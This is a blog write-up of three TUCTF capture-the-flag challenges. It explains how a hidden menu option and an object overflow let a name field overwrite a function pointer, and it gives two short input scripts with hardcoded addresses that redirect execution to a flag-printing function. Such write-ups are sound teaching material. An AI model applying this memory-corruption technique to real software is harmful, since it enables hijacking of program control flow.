Writeup – WoO, WoO2, WoO2-Fixed (TUCTF)

During this weekend’s TUCTF competition, I encountered the woo, woo2 and woo2-fixed challenges. These are all variants of a specific challenge: the poorly oriented data type.

At face value, all of these challenges appear to be the same, presenting the following menu:



Part 1: Finding the Secret Menu Option:

The first thing I do is load woo into IDA Pro, and look for interesting functions. Immediately, the “l33tH4x0r” and “pwnMe” functions stand out. A quick xref check reveals nothing 0n “l33tH4x0r”, but “pwnMe” gets a hit from what appears to be the main menu function

secret, like the kfc super variety bucket.

secret, like the kfc super variety bucket.

From here, we can tell that this is option number 0x1337 (or “4919” at the prompt).

From here, we can dive a bit deeper into the pwnMe function: it looks like a relatively straightforward “loader” function: it looks up a structure (presumably a bear), checks if a given field is ‘3’, then calls another field.

i like bears

i like bearsA little bit of debugging with GDB quickly reveals the structure:

x/32wx...who makes this syntax up?

x/32wx…who makes this syntax up?

15 minutes later, we have a reasonable idea of what we need to do:

[target_ptr] [name] [type] [dunno whocares]
[\x00\x00\x00\x00\xAA\xBB\xCC\xBB] [\x41\x41\x41\x41\x41\x41\x41\x41] [3] [dunno whocares]

Part 2: Making an Exploit

The wayto exploit this vulnerability is to create a bear object, with a type of “3”, and a name which overflows into the target_ptr field, with the address of the “l33tH4x0r” function (which prints the flag). Then, go back to the main menu and trigger the hidden menu option of “4919”.

There’s one further trick to bypass before we can do this: the “bear” object only has types 1 to 2 – fortunately, the 4919 secret function does not check the actual type of object, so we fake it with a Tiger entry.

Unfortunately, I forgot to screencap the exploit during the CTF, but here’s the exploit:


# print "4"
# print "0"
print "2"
print "3"
print "\xDD\x08\x40\x00\x00\x00\x00\x00"
print "4919"

Pipe that through stdin, and Bob’s your uncle:Woo2 is the same as the woo exercise, except the application will forbid you from creating a bear of type 3. Fortunately, our previous exploit did not depend on this, so we could simply re-use it with a modified “win” offset, for a glorious second flag.


Correction: after the CTF, I realized that the woo did not enforce the bear.type != 3 check, where woo2 did. Welp, free internet points for me.


Woo2_fixed introduces a slight variation on this exploit: the pwnMe function now checks the “bearOffset” (which starts at -1), and ensures that it is not -1:



We can check that this is incremented when we create an object: so we simply create 2 fake bear objects, remove 1 of them, and overwrite it with a “tiger” object (which becomes “Object 1”, which bearOffset correctly points to).

The modified exploit is as follows:


print "3"
print "1"
print "dicks" # fake bear 1
print "3"
print "1"
print "dicks" # fake bear 2
print "4"
print "1"     # delete fake bear 2
print "2"     # payload "bear" 2 :)
print "3"
print "\x0D\x09\x40\x00\x00\x00\x00\x00"
print "4919"

And that’s an easy 250 (?) points:

totally 250 points of effort

totally 250 points of effort

Thanks TUCTF for putting together these challenges. I think woo2 and woo2_final were scored too highly with respect to woo, but they were definitely fun (and a good excuse for me to write up this type of memory corruption vulnerability).

About Norman

Sometimes, I write code. Occasionally, it even works.
This entry was posted in Bards, Computers, Jesting and tagged , , . Bookmark the permalink.Leave a Reply

Fill in your details below or click an icon to log in:

WordPress.com Logo

You are commenting using your WordPress.com account. Log Out /  Change )

Google photo

You are commenting using your Google account. Log Out /  Change )

Twitter picture

You are commenting using your Twitter account.Log Out /  Change )

Facebookphoto

You are commenting using yourFacebook account. Log Out /  Change)

Connecting to %s

This site uses Akismet toreduce spam. Learn how your comment data is processed.